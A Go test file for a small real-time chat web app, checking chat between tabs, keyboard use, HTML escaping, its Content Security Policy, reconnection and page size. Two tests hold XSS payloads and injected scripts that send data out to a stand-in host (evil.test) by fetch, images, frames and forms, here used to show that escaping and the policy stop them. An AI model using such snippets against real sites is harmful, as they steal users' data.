//go:build unix

package main

import (
	"fmt"
	"io/fs"
	"slices"
	"testing"
)

func TestTwoTabsChat(t *testing.T) {
	s := openSite(t)
	ann, bob := s.visitor("ann"), s.visitor("bob")
	ann.says("Hello, Bob.")
	bob.sees("ann: Hello, Bob.")
	bob.click("#text")
	bob.types("Hello, Ann.")
	bob.click("#compose button")
	ann.sees("ann: Hello, Bob.", "bob: Hello, Ann.")
	bob.sees("ann: Hello, Bob.", "bob: Hello, Ann.")
}

func TestTheKeyboardIsEnough(t *testing.T) {
	ann := openSite(t).visitor("ann")
	ann.types("no click was needed to type this")
	ann.press("Enter")
	ann.sees("ann: no click was needed to type this")

	ann.types("nor to send this")
	ann.press("Tab")
	ann.isOn("#compose button")
	ann.press("Shift+Tab")
	ann.isOn("#text")
	ann.press("Shift+Tab")
	ann.isOn("#log")
	ann.press("Tab")
	ann.press("Tab")
	ann.press("Enter")
	ann.sees("ann: no click was needed to type this", "ann: nor to send this")
}

func TestMarkupIsShownAsText(t *testing.T) {
	s := openSite(t)
	ann, bob := s.visitor("ann"), s.visitor("bob")
	markup := []string{
		"<b>bold</b>",
		"&lt;entity&gt;",
		`<img src="nope" onerror="document.title = 'mine'">`,
		"<script>document.title = 'mine'</script>",
	}
	for _, text := range markup {
		ann.says(text)
		ann.sees("ann: " + text)
		bob.sees("ann: " + text)
	}
	bob.waitFor(`document.querySelector("#messages span *") === null`)
	bob.waitFor(`document.title === "Go Real-Time Chat App"`)
}

// Should markup become part of the page in spite of all care, the policy is
// what stops it. So the test does what the page never does.
func TestThePolicyStopsWhatIsNotOurs(t *testing.T) {
	s := openSite(t)
	ann := s.newcomer()
	ann.expects("Content Security Policy")
	ann.expects("https://evil.test/") // Chromium tells of a request before the policy stops it
	for directive, attempt := range map[string]string{
		"script-src-attr": `document.body.innerHTML = "<img src=icon.svg onload='stopped(null)'>"`,
		"script-src-elem": `document.body.append(Object.assign(document.createElement("script"), {text: "stopped(null)"}))`,
		"style-src-attr":  `document.body.innerHTML = "<p style='position: fixed'>"`,
		"img-src":         `new Image().src = "https://evil.test/?what-ann-knows"`,
		"frame-src":       `document.body.append(Object.assign(document.createElement("iframe"), {src: "https://evil.test/"}))`,
		"base-uri":        `document.head.append(Object.assign(document.createElement("base"), {href: "https://evil.test/"}))`,
		"form-action":     `compose.action = "https://evil.test/"; HTMLFormElement.prototype.submit.call(compose)`,
		"connect-src":     `fetch("https://evil.test/?what-ann-knows").catch(() => {})`,
	} {
		ann.open("http://" + s.addr)
		var by string
		ann.eval(fmt.Sprintf(`new Promise((stopped) => {
			window.stopped = stopped;
			document.addEventListener("securitypolicyviolation", (event) => stopped(event.effectiveDirective), {once: true});
			setTimeout(stopped, %d, "nothing");
			%s;
		})`, pagePatience.Milliseconds(), attempt), &by)
		if by != directive {
			t.Errorf("%s\nis stopped by %q, want %q", attempt, by, directive)
		}
	}
}

func TestThePageAsksNobodyButItsServer(t *testing.T) {
	s := openSite(t)
	ann := s.visitor("ann")
	ann.says("https://evil.test/a-link-without-preview.png")
	ann.sees("ann: https://evil.test/a-link-without-preview.png")
	// That no request went elsewhere is checked at the end of every test; here,
	// that this check would see one.
	for _, want := range []string{"http://" + s.addr + "/chat.js", "ws://" + s.addr + "/ws"} {
		if !slices.Contains(ann.requests, want) {
			t.Errorf("the requests are %q, want one of them to be %s", ann.requests, want)
		}
	}
}

func TestWhileTheServerIsAwayTheTextStays(t *testing.T) {
	s := openSite(t)
	ann := s.visitor("ann")
	ann.expects("WebSocket connection") // attempts that fail
	ann.types("half a sen")
	s.stop()
	ann.isDisconnected()
	ann.types("tence")
	ann.press("Enter")
	ann.click("#compose button")
	ann.hasWritten("half a sentence")

	s.start(s.addr)
	ann.isConnected() // by itself
	ann.click("#text")
	ann.press("Enter")
	ann.sees("ann: half a sentence")
}

func TestThePageIsSmall(t *testing.T) {
	const limit = 20_000
	var size int64
	err := fs.WalkDir(static, ".", func(_ string, entry fs.DirEntry, err error) error {
		if err != nil || entry.IsDir() {
			return err
		}
		info, err := entry.Info()
		if err == nil {
			size += info.Size()
		}
		return err
	})
	if err != nil || size >= limit {
		t.Errorf("the files of the page have %d bytes together (error: %v), want less than %d", size, err, limit)
	}
}
